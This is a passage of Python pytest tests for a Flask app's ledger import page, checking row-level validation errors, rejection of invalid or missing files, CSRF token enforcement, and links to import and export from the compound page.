def test_import_page_lists_every_bad_row_in_a_table(secretary, compound, login, client):
    login(secretary)
    client.get("/lang/en")
    rows = [*good_rows(), row(n="301", floor=0), row(n="302", area="x", names="", ids=""),
            row(n="303", dev="y")]
    resp = upload(client, compound.id, csv_bytes(rows))
    assert resp.status_code == 422
    text = resp.get_data(as_text=True)
    assert "3 rows have problems; nothing was imported." in text
    cells = re.findall(r'<tr><td class="num">(\d+)</td><td>([^<]+)</td>', text)
    assert cells == [("5", "楼层"), ("6", "建筑面积"), ("6", "业主姓名"), ("7", "开发商持有")]
    assert counts()["units"] == 0


def test_import_page_explains_unreadable_files_and_missing_file(secretary, compound, login,
                                                               client):
    login(secretary)
    client.get("/lang/en")
    resp = upload(client, compound.id, b"junk", "ledger.xlsx")
    assert resp.status_code == 422 and "not a valid XLSX workbook" in resp.get_data(as_text=True)
    assert "Nothing was imported." in resp.get_data(as_text=True)
    resp = upload(client, compound.id, b"%PDF", "scan.pdf")
    assert resp.status_code == 415 and ".xlsx or .csv" in resp.get_data(as_text=True)
    resp = client.post(f"/compounds/{compound.id}/ledger/import", data={},
                       content_type="multipart/form-data")
    assert resp.status_code == 400 and "Choose the ledger file" in resp.get_data(as_text=True)


def test_import_page_needs_the_csrf_token(secretary, compound, login, client, app, monkeypatch):
    login(secretary)
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    page = client.get(f"/compounds/{compound.id}/ledger/import").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    forged = upload(client, compound.id, csv_bytes(good_rows()))
    assert forged.status_code == 400 and counts()["units"] == 0
    resp = client.post(f"/compounds/{compound.id}/ledger/import",
                       data={"file": (io.BytesIO(csv_bytes(good_rows())), "l.csv"),
                             "csrf_token": token}, content_type="multipart/form-data")
    assert resp.status_code == 200 and counts()["units"] == 3


def test_compound_page_links_to_import_and_export(secretary, compound, login, client):
    login(secretary)
    page = client.get(f"/compounds/{compound.id}").get_data(as_text=True)
    assert f"/compounds/{compound.id}/ledger/import" in page
    assert f"/compounds/{compound.id}/ledger/export" in page
